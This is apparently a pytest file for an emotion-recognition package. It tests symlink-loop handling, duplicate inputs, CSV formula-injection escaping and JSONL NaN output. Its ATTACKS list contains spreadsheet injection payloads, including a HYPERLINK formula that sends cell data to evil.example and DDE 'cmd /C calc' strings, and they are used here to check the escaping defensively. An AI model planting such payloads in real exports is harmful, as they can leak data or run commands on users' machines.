"""Untrusted inputs and outputs (issue 13, items 4, 5 and 10): symlink loops, duplicates, spreadsheet formulas, NaN.

The folder trees are built per test with real files and real symlinks. References are independent: ``os.walk``
without following links lists the real files; a strict JSON parser rejects ``NaN``; a spreadsheet runs a cell
that starts with ``= + - @``, tab or CR unless it is a number.
"""

from __future__ import annotations

import csv
import json
import math
import os
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from emozoo.errors import DataError
from emozoo.inputs import FoundInputs, expand_inputs, find_inputs, input_kind
from emozoo.output_safety import NONFINITE_KEY, dumps_jsonl, escape_csv_cell, escape_csv_row, json_safe


def image(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (4, 4), (len(path.name) * 20 % 256, 0, 0)).save(path)
    return path


def real_files(root: Path, exts=(".jpg", ".png")) -> list[str]:
    """The reference: every real image file below ``root``, symlinks never followed, in sorted order."""
    out = []
    for d, dirs, files in os.walk(root, followlinks=False):
        dirs[:] = [x for x in dirs if not x.startswith(".")]
        out += [os.path.join(d, f) for f in files if f.endswith(exts) and not os.path.islink(os.path.join(d, f))]
    return sorted(out, key=lambda p: Path(p).parts)


@pytest.fixture
def tree(tmp_path, monkeypatch) -> Path:
    """``data/`` with images at three depths; the tests add their own symlinks. The working folder is tmp_path."""
    monkeypatch.chdir(tmp_path)
    for rel in ("a.jpg", "b.png", "sub/c.jpg", "sub/deeper/d.png", "sub/deeper/e.jpg", "z/f.jpg"):
        image(tmp_path / "data" / rel)
    (tmp_path / "data" / "notes.txt").write_text("not an image")
    return Path("data")


# --- symlink loops and duplicates ----------------------------------------------------------------------------------

PATTERNS = ["data", "data/**", "data/**/*.jpg", "data/**/*.png", "data/*", "**/*.jpg", "data/**/deeper/*"]


@pytest.mark.timeout(60)  # the old glob never finished with two loops
@pytest.mark.parametrize("loops", [1, 2])
@pytest.mark.parametrize("pattern", PATTERNS)
def test_symlink_loops_end_and_each_file_comes_once(tree, loops, pattern):
    os.symlink("..", tree / "sub" / "up")  # data/sub/up -> data
    if loops == 2:
        os.symlink("../..", tree / "sub" / "deeper" / "top")  # data/sub/deeper/top -> data
    paths = [str(p) for p in expand_inputs([pattern])]
    assert len(paths) == len(set(paths)) == len({os.path.realpath(p) for p in paths})  # old: 41 copies each
    import fnmatch

    suffix = pattern.split("/")[-1]
    wanted = [p for p in real_files(tree) if "*" not in suffix or fnmatch.fnmatch(Path(p).name, suffix)]
    if pattern == "data/**/deeper/*":
        wanted = [p for p in wanted if "/deeper/" in p]
    assert paths == wanted


def test_linked_folders_are_followed_once(tree, tmp_path):
    other = tmp_path / "elsewhere"
    image(other / "g.jpg")
    image(other / "inner" / "h.png")
    os.symlink(other, tree / "link1")
    os.symlink(other, tree / "sub" / "link2")
    os.symlink(tree.resolve(), other / "inner" / "back")  # and a loop through the other tree
    paths = [str(p) for p in expand_inputs(["data"])]
    assert sorted(os.path.realpath(p) for p in paths) == sorted(
        [os.path.realpath(p) for p in real_files(tree)] + [str(other / "g.jpg"), str(other / "inner" / "h.png")]
    )
    assert "data/link1/g.jpg" in paths and not any("link2" in p for p in paths)  # first path that reached it


def test_duplicates_are_scored_once_under_the_first_path(tree):
    os.symlink("a.jpg", tree / "alias.jpg")
    os.link(tree / "b.png", tree / "hard.png")
    found = expand_inputs(["data/a.jpg", "data", "data/*.jpg", "data/alias.jpg", "./data/sub/c.jpg"])
    assert [str(p) for p in found][:2] == ["data/a.jpg", "data/b.png"]
    assert len(found) == len(real_files(tree)) - 1  # hard.png is b.png: one file, one inode
    assert len({os.stat(p).st_ino for p in found}) == len(found)


def test_order_is_stable_and_follows_the_inputs(tree):
    assert [str(p) for p in expand_inputs(["data"])] == real_files(tree)
    first = [str(p) for p in expand_inputs(["data/z", "data/sub"])]
    assert first == ["data/z/f.jpg", "data/sub/c.jpg", "data/sub/deeper/d.png", "data/sub/deeper/e.jpg"]


def test_deep_tree_does_not_exhaust_recursion(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    deep = "r"
    os.mkdir(deep)
    for _ in range(1100):  # deeper than Python's recursion limit (1000)
        deep = os.path.join(deep, "d")
        os.mkdir(deep)
    deep = Path(deep)
    image(deep / "x.jpg")
    try:
        assert expand_inputs(["r"]) == [deep / "x.jpg"]
        assert expand_inputs(["r/**/*.jpg"]) == [deep / "x.jpg"]
    finally:  # pytest's tmp_path cleanup (shutil.rmtree) recurses once per level: take the tree down from below
        (deep / "x.jpg").unlink()
        for d in [deep, *deep.parents][:-1]:
            d.rmdir()


# --- kinds, options and errors ------------------------------------------------------------------------------------


def test_kinds_and_explicit_files(tree):
    for name in ("clip.MP4", "b.mov", "c.mkv", "d.webm", "e.avi"):
        (tree / "videos" / name).parent.mkdir(exist_ok=True)
        (tree / "videos" / name).write_bytes(b"\0")
    (tree / "shard-000000.tar").write_bytes(b"\0")
    (tree / "photo.heic.bak").write_bytes(b"\0")
    found = find_inputs(["data", "data/photo.heic.bak"])
    assert [p.name for p in found.videos] == ["b.mov", "c.mkv", "clip.MP4", "d.webm", "e.avi"]
    assert found.shards == [tree / "shard-000000.tar"]
    assert found.images[-1] == tree / "photo.heic.bak"  # named explicitly: read (and reported if unreadable)
    assert "notes.txt" not in {p.name for p in found.images}
    assert [input_kind(x) for x in ("a.JPG", "a.webm", "a.tar", "a.txt")] == ["image", "video", "shard", None]


def test_hidden_files_and_non_recursive(tree):
    image(tree / ".thumbs" / "x.jpg")
    image(tree / "._a.jpg")
    assert not any("/." in f"/{p}" for p in expand_inputs(["data"]))
    assert expand_inputs(["data/._a.jpg"]) == [tree / "._a.jpg"]
    assert [p.name for p in expand_inputs(["data"], recursive=False)] == ["a.jpg", "b.png"]


def test_missing_inputs_are_one_line_errors(tree):
    for args, needle in [
        (["data/nope.jpg"], "input not found: data/nope.jpg"),
        (["data/*.gif"], "data/*.gif matches nothing"),
        (["data/*.txt", "data/notes.txt"], None),  # the glob skips a non-image; a file named explicitly is read
    ]:
        if needle is None:
            assert find_inputs(args).images == [tree / "notes.txt"]
            continue
        with pytest.raises(DataError) as err:
            find_inputs(args)
        assert needle in str(err.value) and "\n" not in str(err.value)
    (tree / "empty").mkdir()
    with pytest.raises(DataError, match="no images, videos or shards"):
        find_inputs(["data/empty"])
    os.mkfifo(tree / "pipe.jpg")
    with pytest.raises(DataError, match="not a regular file"):
        find_inputs(["data/pipe.jpg"])


def test_unreadable_folder_is_reported_not_fatal(tree, monkeypatch):
    real_scandir, readable = os.scandir, [p for p in real_files(tree) if not p.startswith("data/z/")]

    def scandir(path):  # what chmod 000 does to a folder for anyone but root, which CI may be
        if os.path.normpath(path) == os.path.join("data", "z"):
            raise PermissionError(13, "Permission denied", path)
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    found = find_inputs(["data"])
    assert isinstance(found, FoundInputs) and found.unreadable == ["data/z: PermissionError: Permission denied"]
    assert [str(p) for p in found.images] == readable


# --- CSV: cells a spreadsheet would run ---------------------------------------------------------------------------


def spreadsheet_runs(cell: str) -> bool:
    """What Excel/LibreOffice do with a CSV cell: a leading = + - @ (after spaces), tab or CR starts a formula
    unless the whole cell is a number."""
    head = cell.lstrip(" ")
    if not head or head[0] not in "=+-@\t\r":
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return not math.isfinite(float(cell))  # "-inf" / "-nan" are text, and text starting with "-" runs


ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open").jpg',
    "+cmd|' /C calc'!A0.png",
    "-2+3.jpg",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "-inf",
]
SAFE = ["faces/a.jpg", "shard-000.tar:0001", "-0.25", "-3", "1e-3", "+7", "", "anger"]


def test_csv_cells_that_would_run_are_escaped(tmp_path):
    rows = [["image", "top1", "intensity:anger"]] + [[name, "anger", -0.5] for name in ATTACKS + SAFE]
    path = tmp_path / "pred.csv"
    with path.open("w", newline="") as f:
        csv.writer(f).writerows(escape_csv_row(r) for r in rows)
    with path.open(newline="") as f:
        back = list(csv.reader(f))
    assert not [c for row in back for c in row if spreadsheet_runs(c)]
    assert all(spreadsheet_runs(a) for a in ATTACKS)  # the reference does flag the attacks
    assert [r[0] for r in back[1:]] == ["'" + a for a in ATTACKS] + SAFE  # OWASP: one leading quote, else as is
    assert {r[2] for r in back[1:]} == {"-0.5"}  # negative numbers stay numbers
    assert escape_csv_cell(-1.5) == -1.5 and escape_csv_cell(None) is None


# --- JSONL: never a bare NaN --------------------------------------------------------------------------------------


def strict_loads(line: str):
    def refuse(name):
        raise ValueError(f"bare {name} is not JSON")

    return json.loads(line, parse_constant=refuse)


def nonfinite_paths(value, path=""):
    """The reference: dotted paths of every NaN/inf float, by walking the record."""
    if isinstance(value, dict):
        return [p for k, v in value.items() for p in nonfinite_paths(v, f"{path}.{k}" if path else k)]
    if isinstance(value, list):
        return [p for i, v in enumerate(value) for p in nonfinite_paths(v, f"{path}.{i}" if path else str(i))]
    return [path] if isinstance(value, float) and not math.isfinite(value) else []


def test_jsonl_never_holds_bare_nan():
    nan, inf = float("nan"), float("inf")
    record = {
        "image": "a.jpg",
        "top_k": [{"emotion": "anger", "intensity": nan, "probability": 0.5}],
        "intensity": {"anger": nan, "joy": 1.5, "awe": -inf},
        "distribution": {"anger": inf, "joy": 0.25, "awe": np.float32("nan")},
        "extra": {"valence": -0.5},
    }
    before = json.dumps(record, default=float)
    assert "NaN" in before and "Infinity" in before  # what json.dumps writes by default: not JSON
    with pytest.raises(ValueError):
        strict_loads(before)
    line = dumps_jsonl(record)
    back = strict_loads(line)
    assert json.dumps(back, allow_nan=False)
    assert back[NONFINITE_KEY] == [
        p for p in nonfinite_paths(record | {"distribution": {"anger": inf, "joy": 0.25, "awe": nan}})
    ]
    assert back["intensity"] == {"anger": None, "joy": 1.5, "awe": None} and back["extra"] == {"valence": -0.5}
    assert record["intensity"]["anger"] != record["intensity"]["anger"]  # the input is not changed


def test_finite_records_pass_unchanged():
    record = {"image": "a.jpg", "intensity": {"anger": 0.0, "joy": 7.0}, "top_k": [{"emotion": "joy"}], "n": 3}
    assert json_safe(record) == record and NONFINITE_KEY not in json_safe(record)
    assert strict_loads(dumps_jsonl(record)) == record


# --- the writers and the input collection that emozoo predict uses ----------------------------------------------


def _records(key: str, outputs) -> list[dict]:
    from emozoo.inference.records import face_predictions

    face = {"image_key": key, "face": 0, "box": [0, 0, 8, 8], "landmarks": None, "detector_score": None}
    return [p.to_dict() for p in face_predictions([face], outputs, top_k=3)]


def test_prediction_writer_csv_is_escaped(tmp_path):
    import torch

    from emozoo.inference_output import PredictionWriter

    outputs = {"intensity": torch.rand(1, 40), "distribution": torch.softmax(torch.rand(1, 40), -1)}
    with PredictionWriter(tmp_path / "p.csv", top_k=3) as w:
        w.write(_records(ATTACKS[0], outputs))
    with (tmp_path / "p.csv").open(newline="") as f:
        assert not [c for row in csv.reader(f) for c in row if spreadsheet_runs(c)]


def test_prediction_writer_jsonl_has_no_nan(tmp_path):
    import torch

    from emozoo.inference_output import PredictionWriter

    outputs = {"intensity": torch.full((1, 40), float("nan")), "distribution": torch.full((1, 40), float("nan"))}
    with PredictionWriter(tmp_path / "p.jsonl", top_k=3) as w:
        w.write(_records("a.jpg", outputs))
    strict_loads((tmp_path / "p.jsonl").read_text())


@pytest.mark.timeout(60)
def test_collect_inputs_scores_each_file_once(tree):
    from emozoo.inference import collect_inputs

    os.symlink("..", tree / "sub" / "up")
    images = [path for _, path in collect_inputs(["data/**/*.jpg"]).images]
    assert images and len(images) == len({os.path.realpath(p) for p in images})


def test_output_safety_docstring_examples_run():
    import doctest

    import emozoo.output_safety

    assert doctest.testmod(emozoo.output_safety).failed == 0
